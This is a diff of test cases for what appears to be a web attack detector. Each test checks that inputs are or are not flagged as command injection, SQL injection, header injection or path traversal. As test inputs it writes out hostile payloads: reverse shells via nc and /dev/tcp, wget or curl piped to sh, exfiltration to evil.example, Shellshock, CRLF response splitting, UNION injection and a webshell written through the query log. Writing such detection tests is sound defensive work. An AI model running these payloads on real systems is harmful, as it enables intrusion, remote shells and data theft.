@@ -1771,3 +1771,49 @@ t.test('twenty-sixth round (the fourteenth part, spent): a Markdown page’s fro
   t.ok(json({ snippet: `${c}; cat /etc/passwd | nc evil.example 4444\n` }).includes('rce'), 'a command line in the same program still counts')
   t.ok(json({ snippet: `${c}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n` }).includes('rce'), 'and a reverse shell')
 })
+
+t.test('twenty-sixth round, review: what its exemptions must not hide', async (t) => {
+  // a header injected into a query's value, a list item after it: no Markdown page (only a form's field that opens as one is)
+  t.ok(q('/home\r\nSet-Cookie: session=attacker; Path=/\r\n- x', 'next').includes('crlf'), 'a list item after the injected header')
+  t.ok(q('en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n- <b>x</b>', 'lang').includes('crlf'), 'a response split before a list item')
+  t.ok(q('---\nSet-Cookie: session=attacker\nx: y', 'next').includes('crlf'), "front matter's shape in a query")
+  const page = '---\nc: Copyright (C) Daniel Stenberg, et al.\nSPDX-License-Identifier: curl\nTitle: CURLOPT_URL\nSection: 3\nSource: libcurl\nSee-also:\n  - CURLOPT_CURLU (3)\n---'
+  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`body=${encodeURIComponent(page)}`) }), [], "a form's page still is none")
+  // a text table's delimiter row written to hide a command line's pipe
+  t.ok(q('127.0.0.1\nwget http://203.0.113.7/x.sh -O- | sh\n---+---', 'host').includes('rce'), 'a download piped to a shell above a delimiter row')
+  t.ok(q('127.0.0.1\nid | tee /tmp/x\n---+---', 'host').includes('rce'), 'a program piped to tee')
+  t.ok(json({ host: 'x\n---+---\nnc -e /bin/sh 1.2.3.4 80 | x' }).includes('rce'), 'a reverse shell in a row')
+  t.same(json({ text: '+----+-------+\n| id | name  |\n+----+-------+\n| 1  | mysql |\n+----+-------+\n' }), [], "MySQL's table still is none")
+  // a command substituted inside a C loop's header
+  const c = '#include "server.h"\n\nstatic int n;\n\nint count(void) {\n    int type;\n'
+  t.ok(json({ snippet: `${c}    for (x = \`curl http://203.0.113.7/x | sh\`; a; b) {\n        n += 1;\n    }\n    return n;\n}\n` }).includes('rce'), 'backticks in a clause')
+  // a system file after a program that reads it, on a line of prose
+  const notes = (line: string) => `Release notes\n=============\n\n * The code in the directory could not cope with a user missing\n${line}\n   and that is fixed now, as the tests show.\n`
+  t.ok(json({ text: notes('cat /etc/passwd and') }).includes('path_traversal'), 'cat before the file')
+  t.same(json({ text: notes('   in the /etc/passwd file or other uid-to-name mappings), the') }), [], 'a sentence naming it still is none')
+})
+
+t.test('twenty-sixth round, review: benign values its signatures must not flag', async (t) => {
+  // an expansion inside a word that hides no program's or file's word: a shell manual's, a loop's
+  for (const v of ['echo pre${var}post', 'cp photo${n}x.jpg backup/', 'mv report${year}q4.pdf archive/', 'ls dir${n}a']) t.same(q(v), [], v)
+  for (const v of ['c${u}at /etc/passwd', 'cat /et${u}c/pas${u}swd', 'w${x}hoami']) t.ok(q(v).includes('rce'), v)
+  // a script's method body that only returns is no Shellshock
+  t.same(json({ snippet: '() { return; }' }), [])
+  t.ok(header('user-agent', '() { :; }; /bin/bash -c "id"').includes('rce'), 'Shellshock still is')
+})
+
+t.test("twenty-sixth round, review: a DBA's question quoting a dictionary read is no injection", async (t) => {
+  const post = (sql: string) => `Hi all,\n\nI am trying to list the accounts on our 19c database. When I run\n\n${sql}\n\nI get ORA-00942. What grant do I need? Thanks in advance.`
+  for (const sql of ["SELECT username, account_status FROM dba_users WHERE account_status = 'OPEN';", 'SELECT name FROM master.dbo.sysdatabases ORDER BY name;', "SELECT IS_SRVROLEMEMBER('sysadmin') AS is_admin;", 'DELETE FROM jobs WHERE 0 = (SELECT COUNT(*) FROM runs WHERE runs.job_id = jobs.id);']) {
+    t.same(json({ text: post(sql) }), [], sql)
+    t.ok(q(sql).includes('sqli'), `alone, ${sql}`)
+  }
+  t.ok(json({ text: post("1' UNION SELECT username, password FROM dba_users--") }).includes('sqli'), 'an injection in a post still counts')
+  t.ok(json({ text: post("SET GLOBAL general_log_file='/var/www/html/shell.php';") }).includes('sqli'), "and a script written through the query log")
+})
+
+t.test('twenty-sixth round, review: a COPY of listed columns is a list of names', async (t) => {
+  t.same(q('Please copy this (the whole file) to the shared folder before Monday.'), [], 'prose with a remark in parentheses')
+  t.ok(q("'||;COPY users(names) FROM '\\\\xpto.example.com\\';||'").includes('sqli'), 'one column')
+  t.ok(q("x'; copy users (name, email) from program 'id'").includes('sqli'), 'two, after a blank')
+})
